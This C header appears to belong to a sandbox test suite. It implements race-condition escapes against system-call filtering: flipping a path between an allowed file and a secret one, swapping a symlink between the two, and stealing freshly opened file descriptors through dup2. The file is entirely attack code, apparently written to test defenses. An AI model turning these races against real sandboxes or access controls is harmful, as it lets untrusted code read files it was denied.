/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The race that killed systrace: one thread opens, another changes the path between the looks. */
#pragma once

#include "attack.h"

static char race_path[PATH_MAX] __attribute__((unused));
static volatile bool race_over __attribute__((unused));

/* The two paths differ in their last part only; both have the same length there. */
static inline void race_begin(char *path)
{
        strcpy(path, allowed_path());
}

static inline void race_flip(char *path, bool secret)
{
        const char *source = secret ? secret_path() : allowed_path();
        size_t length = strlen(source);

        for (size_t i = length - strlen(strrchr(source, '/')); i <= length; i++)
                ((volatile char *) path)[i] = source[i];
}

/* A symlink that leads to the allowed file and to the secret by turns. */
static char race_link[PATH_MAX] __attribute__((unused));
static char race_other_link[PATH_MAX] __attribute__((unused));

static inline void *race_swap_links(void *unused)
{
        for (bool secret = true; !race_over; secret = !secret) {
                unlink(race_other_link);
                if (symlink(secret ? secret_path() : allowed_path(), race_other_link) == 0)
                        rename(race_other_link, race_link);
        }
        return unused;
}

static inline bool race_start_swapping_links(void)
{
        snprintf(race_link, sizeof(race_link), "%s/link-%d", setting("ATTACK_WORK"), getpid());
        snprintf(race_other_link, sizeof(race_other_link), "%s/other-%d", setting("ATTACK_WORK"),
                 getpid());
        if (symlink(allowed_path(), race_link) < 0)
                return false;
        start_thread(race_swap_links, NULL);
        return true;
}

/* The secret's name in the work directory too: a file that may be opened. */
static inline void race_make_namesake(void)
{
        char path[2 * PATH_MAX];

        snprintf(path, sizeof(path), "%s%s", setting("ATTACK_WORK"), strrchr(secret_path(), '/'));
        close(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
}

/* A second thread that takes whatever descriptor appears under the number that comes next, before
 * anybody can look at it. */
#define TAKEN 200

static int taken_place __attribute__((unused));

static inline void *take_descriptors(void *unused)
{
        bool shown = false;

        while (!race_over)
                if (dup2(taken_place, TAKEN) == TAKEN && is_secret(TAKEN) && !shown) {
                        deed_show(dup(TAKEN));
                        shown = true;
                }
        return unused;
}

static inline void prepare_second_reader(void)
{
        taken_place = dup(STDIN_FILENO);
        close(taken_place);
}

static inline void start_second_reader(void)
{
        prepare_second_reader();
        start_thread(take_descriptors, NULL);
}
